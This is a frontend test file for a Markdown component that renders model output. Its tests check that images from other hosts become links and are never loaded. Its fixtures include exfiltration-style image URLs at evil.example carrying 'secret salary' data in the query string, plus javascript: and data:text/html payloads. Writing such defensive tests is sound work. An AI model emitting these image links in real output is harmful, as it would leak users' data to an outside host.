import { cleanup, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { Markdown } from './markdown';

const pixel =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

function imgSources(container: HTMLElement): string[] {
  return [...container.querySelectorAll('img')].map((img) => img.getAttribute('src') ?? '');
}

describe('markdown images from a model', () => {
  afterEach(() => cleanup());

  it('never puts an image from another host in the page: it becomes a link named by its alt text', () => {
    const { container } = render(
      <Markdown text={'Here: ![the chart](https://evil.example/p.png?d=secret%20salary) done'} />,
    );
    expect(imgSources(container)).toEqual([]);
    const link = screen.getByRole('link', { name: 'the chart' });
    expect(link.getAttribute('href')).toBe('https://evil.example/p.png?d=secret%20salary');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('names the link by its address when the image has no alt text', () => {
    const { container } = render(<Markdown text={'![](http://198.51.100.7/x.gif?q=1)'} />);
    expect(imgSources(container)).toEqual([]);
    expect(screen.getByRole('link', { name: 'http://198.51.100.7/x.gif?q=1' })).toBeTruthy();
  });

  it('covers reference images, protocol-relative addresses and raw-looking variants', () => {
    const text = [
      '![a][ref]',
      '![b](//evil.example/b.png)',
      '![c](HTTPS://EVIL.EXAMPLE/c.png "title")',
      '<img src="https://evil.example/raw.png">',
      '',
      '[ref]: https://evil.example/ref.png',
    ].join('\n');
    const { container } = render(<Markdown text={text} />);
    expect(imgSources(container)).toEqual([]);
    expect(screen.getByRole('link', { name: 'a' }).getAttribute('href')).toBe(
      'https://evil.example/ref.png',
    );
    expect(screen.getByRole('link', { name: 'b' })).toBeTruthy();
    expect(screen.getByRole('link', { name: 'c' })).toBeTruthy();
  });

  it('shows same-origin and data: images as images', () => {
    const sameOrigin = new URL('/api/files/1/raw', window.location.href).href;
    const { container } = render(
      <Markdown text={`![local](/api/files/1/raw) ![abs](${sameOrigin}) ![dot](${pixel})`} />,
    );
    expect(imgSources(container)).toEqual(['/api/files/1/raw', sameOrigin, pixel]);
    expect(screen.getByRole('img', { name: 'dot' })).toBeTruthy();
  });

  it('drops script-like image addresses entirely', () => {
    const { container } = render(
      <Markdown text={'![x](javascript:alert(1)) ![y](data:text/html,<b>)'} />,
    );
    expect(imgSources(container)).toEqual([]);
    expect(container.innerHTML).not.toContain('javascript:');
    expect(container.innerHTML).not.toContain('data:text/html');
  });
});
